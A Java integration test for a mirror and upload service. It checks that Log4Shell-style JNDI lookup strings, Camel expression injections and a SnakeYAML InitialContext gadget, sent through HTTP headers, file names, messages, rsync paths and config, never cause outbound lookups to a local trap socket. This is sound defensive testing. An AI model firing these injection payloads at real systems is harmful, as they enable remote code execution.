package org.sluice.app;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.sluice.app.Site.soon;
import static org.sluice.app.Uploads.bytes;
import static org.sluice.app.Uploads.iso;

import java.io.IOException;
import java.net.ServerSocket;
import java.net.SocketTimeoutException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.sluice.testkit.Loopback;
import org.sluice.testkit.RawHttp;
import org.sluice.testkit.RsyncClient;

/**
 * What strangers write is text: nothing in it is looked up, by JNDI or as an expression, wherever it is read or logged.
 */
class LookupsIT {

    private static final int PATIENCE_MILLIS = 500;

    @Test
    void textsThatAskForALookupAreOnlyTexts(@TempDir Path root) throws Exception {
        try (ServedSite served = ServedSite.prepare(root, text -> text);
                ServerSocket trap = new ServerSocket()) {
            trap.bind(Loopback.at(0));
            trap.setSoTimeout(PATIENCE_MILLIS);
            String address = "127.0.0.1:" + trap.getLocalPort();
            Site site = served.site();
            site.run();

            uploads(site, address);
            List<String> texts = List.of("${jndi:ldap://" + address + "/a}", "${jndi:rmi://" + address + "/a}");
            for (String text : texts) {
                ask(site.port(), text);
                site.send("artifact.new", text);
                site.send("artifact.new", "{\"specversion\":\"1.0\",\"type\":\"" + text + "\"}");
                RsyncClient.Ended pull = RsyncClient.at(
                                40, served.daemon().port(), "amnesia-archive/" + text, root.resolve("stranger"))
                        .run();
                assertThat(pull.exit()).isNotZero();
            }
            list(site, texts.getFirst());

            served.publishImages("6.1");
            served.pull(11);
            soon(() -> assertThat(new Progress(site).ready("6.1")).containsExactly("first-mirror"));
            soon(() -> assertThat(site.status()).contains("${jndi:ldap:" + address + "}", "dead letters: 4"));
            assertThatThrownBy(trap::accept).as("nobody has connected").isInstanceOf(SocketTimeoutException.class);
        }
    }

    /** Names and contents; Camel's own expressions, too. */
    private static void uploads(Site site, String address) throws IOException {
        String expressions = "${bean:type:java.lang.Runtime?method=getRuntime}${sysenv.HOME}{{sys:user.home}}";
        for (String name : List.of("${jndi:ldap:" + address + "}", "${jndi:dns:" + address + "}.iso", expressions)) {
            site.upload(name, bytes(iso("6.1")));
        }
        site.upload("SHA256SUMS", ("0".repeat(64) + "  ${jndi:ldap://" + address + "/a}.iso\n").getBytes(UTF_8));
        site.upload("tails.yml", ("a: !!javax.naming.InitialContext [\"ldap://" + address + "\"]\n").getBytes(UTF_8));
    }

    private static void ask(int port, String text) throws IOException {
        String headers = " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nUser-Agent: " + text + "\r\nReferer: "
                + text + "\r\nX-Forwarded-For: " + text + "\r\nAuthorization: Bearer " + text + "\r\n\r\n";
        assertThat(RawHttp.converse(port, "GET /api/v1/releases/" + text + headers))
                .startsWith("HTTP/1.1 4");
        assertThat(RawHttp.converse(port, "GET /api/v1/status?x=" + text + headers))
                .startsWith("HTTP/1.1 ");
    }

    private static void list(Site site, String text) throws IOException {
        Path mirrors = site.root().resolve("mirrors.json");
        String before = Files.readString(mirrors);
        Files.writeString(mirrors, before.replace("https://a.example.org/tails/", text));
        soon(() -> assertThat(site.status()).contains("mirrors[0].url_prefix", text));
        Files.writeString(mirrors, before);
        soon(() -> assertThat(RawHttp.converse(
                        site.port(), "GET /health/ready HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"))
                .contains("3 enabled mirrors"));
    }
}
